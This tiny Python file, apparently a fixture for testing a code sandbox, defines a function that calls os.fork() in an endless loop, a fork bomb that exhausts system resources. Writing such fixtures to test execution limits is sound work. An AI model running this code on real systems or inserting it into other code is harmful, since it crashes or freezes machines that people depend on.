"""Forks for ever.

Runs.
"""


def f(x):
    import os

    while True:
        os.fork()
